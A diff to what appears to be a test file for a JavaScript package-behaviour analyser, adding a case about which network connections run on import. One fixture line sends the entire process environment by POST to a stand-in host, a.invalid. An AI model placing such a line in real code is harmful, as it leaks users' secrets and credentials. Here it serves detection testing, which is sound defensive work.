@@ -27,4 +27,17 @@ describe('a file that nothing reaches', () => {
     const lines = linesOf({ 'lib/client.js': `exports.go = () => ${RUNS}`, 'src/other.ts': `export const go = () => ${RUNS};` });
     assert.deepEqual(lines, ['call spawns child_process.spawn(unmask-marker)', 'never spawns child_process.spawn(unmask-marker)']);
   });
+
+  it('does at no known time what another sends there, and what is no source of anything', () => {
+    const files = {
+      'lib/client.js': `fetch('https://a.invalid/report')`,
+      'src/client.ts': `fetch('https://a.invalid/report', { method: 'POST', body: JSON.stringify(process.env) });`,
+      'test/client.js': `fetch('https://a.invalid/report');`,
+    };
+    const { effects } = behaviourOf({ 'package.json': '{ "name": "x", "version": "1.0.0", "main": "lib/client.js" }', ...files });
+    assert.deepEqual(
+      effects.filter(({ kind }) => kind === 'connects').map(({ triggers }) => triggers.join('/')),
+      ['import', '', ''],
+    );
+  });
 });
